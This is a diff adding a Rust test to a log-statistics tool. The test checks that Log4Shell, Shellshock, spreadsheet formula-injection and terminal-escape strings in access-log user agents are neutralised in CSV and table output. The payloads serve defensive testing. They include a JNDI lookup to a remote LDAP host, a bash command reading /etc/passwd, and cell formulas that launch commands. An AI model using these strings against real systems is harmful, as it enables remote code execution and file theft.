@@ -362,3 +362,35 @@ fn format_is_announced_on_stderr_once_per_input() {
     let out = logstat().arg(&a).args(["-q", "-f", "csv", "-r", "class"]).output().unwrap();
     assert!(out.stderr.is_empty());
 }
+
+#[test]
+fn attack_strings_from_real_traffic_are_neutralized() {
+    let env = Env::new();
+    let uas = [
+        "${jndi:ldap://198.51.100.7:1389/Exploit}",        // Log4Shell
+        "() { :; }; /bin/bash -c \\\"cat /etc/passwd\\\"", // Shellshock
+        "=cmd|' /C calc'!A0",                              // DDE formula
+        "+SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\x1b]0;owned\x07\x1b[2J", // nginx-escaped OSC/CSI
+    ];
+    let mut log = String::new();
+    for ua in uas {
+        log += &format!("192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"{ua}\"\n");
+    }
+    // Raw ESC/BEL bytes as Apache would log them unescaped.
+    log += "192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET /\x1b]0;owned\x07 HTTP/1.1\" 200 1 \"-\" \"\x1b[31m\"\n";
+    let p = env.write("attack.log", &log);
+    let rows = csv_rows(&stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "records"]), 0));
+    for r in &rows[1..] {
+        for cell in r {
+            assert!(!matches!(cell.as_bytes().first(), Some(b'=' | b'+' | b'@' | b'\t' | b'\r')), "{cell}");
+            assert!(!(cell.starts_with('-') && cell != "-" && cell.parse::<f64>().is_err()), "{cell}");
+            assert!(!cell.bytes().any(|b| b < 0x20 || b == 0x7f), "{cell:?}");
+        }
+    }
+    assert_eq!(rows[1][13], "${jndi:ldap://198.51.100.7:1389/Exploit}", "text that is not a formula stays as logged");
+    let table = stdout_of(logstat().arg(&p).args(["-r", "routes,malformed"]), 0);
+    assert!(!table.bytes().any(|b| b == 0x1b || b == 0x07));
+}
